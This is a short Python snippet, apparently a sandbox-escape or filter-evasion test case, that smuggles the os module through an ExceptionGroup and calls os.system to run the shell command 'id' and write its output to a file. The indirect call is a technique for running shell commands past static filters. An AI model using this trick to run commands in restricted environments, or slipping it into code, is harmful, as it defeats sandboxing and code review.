import os
try:
    raise ExceptionGroup("x", [ValueError(os)])
except* ValueError as g:
    g.exceptions[0].args[0].system("id>pf")
